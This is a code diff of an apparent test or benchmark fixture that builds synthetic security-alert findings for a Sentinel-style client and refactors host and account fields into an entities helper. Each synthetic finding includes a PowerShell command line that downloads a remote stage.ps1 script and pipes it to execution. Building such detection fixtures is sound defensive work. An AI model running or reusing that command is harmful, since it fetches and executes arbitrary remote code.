@@ -14,6 +14,7 @@ import { createSecurityInsightsClient } from '../src/sentinel/createSecurityInsi
 import { httpDowngradingClient } from '../local/http/httpDowngradingClient.js';
 import { staticTokenCredential } from '../local/http/staticTokenCredential.js';
 import { startSentinelServer } from '../local/sentinel/startSentinelServer.js';
+import { entitiesFromText } from '../src/entities/entityLists.js';
 
 const IPS = 1_000;
 const LATENCY_MS = 20;
@@ -27,8 +28,10 @@ function findings(): Finding[] {
     return {
       ip,
       version: 4,
-      hosts: [`host${i % 37}.contoso.com`, `host${(i * 7) % 41}.contoso.com`],
-      accounts: [`CONTOSO\\user${i % 13}`],
+      entities: entitiesFromText({
+        hosts: [`host${i % 37}.contoso.com`, `host${(i * 7) % 41}.contoso.com`],
+        accounts: [`CONTOSO\\user${i % 13}`],
+      }),
       processes: ['powershell.exe'],
       commandLines: [`powershell -nop -c "iwr http://${ip}/stage.ps1 | iex"`],
       commandLinesOmitted: 0,
